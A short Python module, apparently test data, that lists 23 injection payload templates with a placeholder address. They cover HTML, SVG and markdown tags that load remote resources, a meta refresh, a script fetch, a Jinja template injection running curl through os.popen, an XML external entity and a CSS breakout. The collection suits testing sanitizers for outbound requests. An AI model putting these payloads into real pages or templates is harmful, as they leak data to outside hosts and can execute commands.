"""Texts that would fetch, run or leak, were they anything but text; each names the address it is after."""

from __future__ import annotations

PAGES = (
    "<img src='{at}'>",
    "<img srcset='{at} 2x' alt=x>",
    "<link rel=stylesheet href='{at}'>",
    "<style>@import url({at});</style>",
    "<p style=\"background:url('{at}')\">x</p>",
    "<object data='{at}'>o</object>",
    "<embed src='{at}'>",
    "<iframe src='{at}'></iframe>",
    "<svg><image href='{at}'/></svg>",
    "<svg xmlns:xlink='x'><use xlink:href='{at}#a'/></svg>",
    "<video poster='{at}'></video>",
    "<input type=image src='{at}'>",
    "<base href='{at}'><img src=x>",
    "<meta http-equiv=refresh content='0;url={at}'>",
    "<script>fetch('{at}')</script>",
    "</style><link rel=attachment href='{at}'>",
    "![image]({at})",
    '[mot]({at} "t")',
    "[mot][r]\n\n[r]: {at}",
    "<{at}>",
    "{{{{ lipsum.__globals__.os.popen('curl {at}') }}}}",
    "<!DOCTYPE x [<!ENTITY e SYSTEM '{at}'>]>&e;",
    '"); background: url({at}); content: ("',
)
"""23 pages, `{at}` for the address"""


def pages(at: str) -> tuple[str, ...]:
    """Each of them, after its own part of an address."""
    return tuple(page.format(at=f"{at}/{number}") for number, page in enumerate(PAGES))
